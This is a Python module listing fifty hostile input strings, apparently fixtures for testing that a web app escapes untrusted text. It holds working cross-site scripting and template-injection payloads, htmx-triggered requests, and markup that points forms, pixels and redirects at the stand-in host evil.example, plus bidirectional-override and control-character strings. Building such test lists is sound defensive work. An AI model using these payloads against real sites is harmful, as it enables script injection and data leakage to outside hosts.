"""Fifty texts that try to be something else than text: script, markup, style, direction, size."""

# ruff: noqa: E501 - each text stands on one line with its like

_WORD = "w" * 100_000
HOSTILE: tuple[str, ...] = (
    "<script>window.owned=1</script>", "\"><script>window.owned=1</script>", "'><script>window.owned=1</script>",
    "</textarea><script>window.owned=1</script>", "</title><script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>", "<svg onload=window.owned=1>", "<svg><script>window.owned=1</script></svg>",
    "<body onload=window.owned=1>", "<iframe src=javascript:window.owned=1>", "<iframe srcdoc='<script>top.owned=1</script>'>",
    "<a href=javascript:window.owned=1>click</a>", "javascript:window.owned=1", "data:text/html,<script>window.owned=1</script>",
    "\" autofocus onfocus=window.owned=1 x=\"", "' onmouseover='window.owned=1", "` onclick=`window.owned=1",
    "<form action=//evil.example><button>x</button></form>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>body{display:none}</style>", "<p style=position:fixed;inset:0>",
    "x\" style=\"position:fixed;inset:0;background:red", "{{ 7*7 }}{% raw %}", "{{ self.__init__.__globals__ }}", "${7*7}#{7*7}",
    "<template><script>window.owned=1</script></template>", "<math><mi//xlink:href=\"data:x,<script>window.owned=1</script>\">",
    "<!--><script>window.owned=1</script>", "]]><script>window.owned=1</script>", "<noscript><p title=\"</noscript><img src=x onerror=window.owned=1>\">",
    "<div hx-get=/sign-out hx-trigger=load>", "<div hx-on:load=window.owned=1 hx-vals='js:{x:window.owned=1}'>", "\" hx-get=\"//evil.example\" hx-trigger=\"load",
    "<img src=//evil.example/pixel.png>", "<video poster=//evil.example/p.png>", "<input formaction=//evil.example type=submit>",
    "\u202eevil\u202c text", "\u2066isolate\u2069 \u200bzero\u200dwidth", "\u202a\u202b\u202d\u2067\u2068" * 20, "a\u0300" * 500,
    "\x00null\x00byte", "line\nbreak\r\nand\ttab\x0bvt\x0cff\x1b[31mred", "\ufeffbom", "﷽" * 200,
    _WORD, "🏴\U000e0067\U000e0062\U000e007f" * 20, "&lt;script&gt;window.owned=1&lt;/script&gt; &#60;b&#62;", "%3Cscript%3Ewindow.owned=1%3C/script%3E",
)  # fmt: skip
